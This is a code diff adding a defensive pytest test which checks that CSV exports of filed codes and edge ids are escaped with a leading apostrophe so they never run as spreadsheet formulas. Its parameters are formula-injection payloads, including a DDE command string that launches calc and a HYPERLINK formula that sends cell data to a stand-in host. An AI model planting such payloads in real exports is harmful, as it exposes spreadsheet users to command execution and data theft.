@@ -153,3 +153,39 @@ def test_stats_api_json_and_csv(hub: Hub) -> None:
     assert "cannot group by" in json.dumps(bad.json())
     denied = hub.client.get("/api/v1/stats", headers=hub.auth(Role.OPERATOR))
     assert denied.status_code == 403
+
+
+@pytest.mark.parametrize(
+    "filed",
+    [
+        "=cmd|' /C calc'!A0",
+        '=HYPERLINK("http://x.example/?q="&A1,"click")',
+        "+1+2",
+        "-2+3",
+        "@SUM(A1:A2)",
+        "\t=1+1",
+        "＝1+1",
+    ],
+)
+def test_csv_cells_from_filed_codes_never_become_formulas(filed: str) -> None:
+    """A code or edge id filed by someone else comes out as text, with a leading apostrophe."""
+    from hub.services.stats import StatsReport, StatsRow
+
+    report = StatsReport(
+        date_from=DAY,
+        date_to=DAY,
+        group_by=["ebc_code", "edge"],
+        total_parcels=1,
+        rows=[
+            StatsRow(
+                keys={"ebc_code": filed, "edge": filed},
+                currency=filed,
+                parcels=1,
+                declared_value=Decimal("-1.5"),
+            )
+        ],
+    )
+    (row,) = list(csv.DictReader(io.StringIO(to_csv(report))))
+    for name in ("ebc_code", "edge", "currency"):
+        assert row[name] == "'" + filed
+    assert row["declared_value"] == "-1.5"  # numbers stay numbers
